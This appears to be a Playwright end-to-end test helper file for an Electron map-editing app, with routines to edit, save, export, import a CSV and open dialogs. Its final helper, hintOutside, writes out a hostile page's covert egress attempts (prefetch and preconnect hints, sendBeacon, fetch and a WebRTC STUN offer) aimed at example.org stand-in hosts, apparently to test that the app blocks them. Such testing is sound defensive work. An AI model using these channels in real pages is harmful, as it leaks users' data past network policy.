import { cpSync } from 'node:fs';
import path from 'node:path';
import { type ElectronApplication, expect, type Page } from '@playwright/test';
import type {} from '../../../renderer/bridge';
import { type ExportFormat, formatTraits } from '../../../shared/export/formats';
import { exportWish } from '../../helpers/export-wish';
import { dialogsOf } from '../harness/dialogs';
import { root } from '../harness/launch';
import { Editor } from './editor';

/** A running app at work in a folder. */
export interface AtWork {
  readonly app: ElectronApplication;
  readonly page: Page;
  readonly folder: string;
}

/** Begins a stream from a template, edits it and saves it under a name. */
export async function editAndSave({ app, page, folder }: AtWork): Promise<void> {
  const editor = new Editor(page);
  await editor.startFromTemplate('incident-restoration');
  await editor.nodes.nth(2).click({ position: { x: 20, y: 12 } });
  await page.keyboard.press('Delete');
  await page.keyboard.press('Control+z');
  await page.keyboard.press('Delete');
  await dialogsOf(app).nextSavePath(path.join(folder, 'quiet.vsmap'));
  await page.keyboard.press('Control+s');
  await expect(editor.state).toHaveText('Saved');
}

/** Makes what the app makes of the open map; gives how many bytes each format came to. */
export async function exportFormats(
  { page }: AtWork,
  text: string,
  formats: readonly ExportFormat[],
): Promise<Map<ExportFormat, number>> {
  const sizes = new Map<ExportFormat, number>();
  const { maps } = JSON.parse(text) as { readonly maps: Readonly<Record<string, unknown>> };
  for (const format of formats) {
    const map = Object.keys(maps)[0] ?? '';
    const isReport = formatTraits[format].kind === 'report';
    const wish = exportWish(format, { scope: isReport ? { kind: 'project' } : { kind: 'map', map } });
    const size = await page.evaluate(
      async (job) => {
        const made = await self.streamwright.call['export:make'](job);
        return made.kind === 'made' ? made.bytes.byteLength : 0;
      },
      { work: `quiet-${format}`, text, wish },
    );
    sizes.set(format, size);
  }
  return sizes;
}

/** Drops a table of another tool on the window, as a person does. */
export async function importTable({ page, folder }: AtWork): Promise<string> {
  const table = path.join(folder, 'table.csv');
  cpSync(path.join(root, 'examples', 'valuetech-feature.csv'), table);
  await page.evaluate(() => {
    const input = document.createElement('input');
    input.type = 'file';
    input.id = 'quiet-drop';
    document.body.append(input);
  });
  await page.locator('#quiet-drop').setInputFiles(table);
  return await page.evaluate(async () => {
    const input = document.getElementById('quiet-drop');
    const file = input instanceof HTMLInputElement ? input.files?.[0] : undefined;
    input?.remove();
    const { kind } = await self.streamwright.openDropped(file);
    return kind;
  });
}

/** Opens and closes what a menu or a key opens. */
export async function lookAround({ page }: AtWork): Promise<void> {
  for (const key of ['Control+Comma', 'Control+e', 'Control+k', 'Control+p']) {
    await page.keyboard.press(key);
    await page
      .getByRole('dialog')
      .first()
      .waitFor({ timeout: 5_000 })
      .catch(() => undefined);
    await page.keyboard.press('Escape');
  }
  await page.keyboard.press('F5');
  await page.getByRole('heading', { level: 1 }).first().waitFor();
  await page.keyboard.press('ArrowRight');
  await page.keyboard.press('Escape');
}

/** What a page that means harm would try, to tell a name or a word outside past policy and filter. */
export async function hintOutside({ page }: AtWork): Promise<void> {
  await page.evaluate(async () => {
    for (const rel of ['dns-prefetch', 'preconnect', 'prefetch', 'prerender']) {
      const link = document.createElement('link');
      link.rel = rel;
      link.href = `https://${rel}.example.org`;
      document.head.append(link);
    }
    navigator.sendBeacon('https://beacon.example.org', 'x');
    await fetch('https://fetch.example.org').catch(() => undefined);
    const peer = new RTCPeerConnection({
      iceServers: [{ urls: 'stun:stun.example.org:3478' }, { urls: 'stun:127.0.0.1:3478' }],
    });
    peer.createDataChannel('x');
    await peer.setLocalDescription(await peer.createOffer());
    await new Promise((done) => {
      setTimeout(done, 3_000);
    });
    peer.close();
  });
}
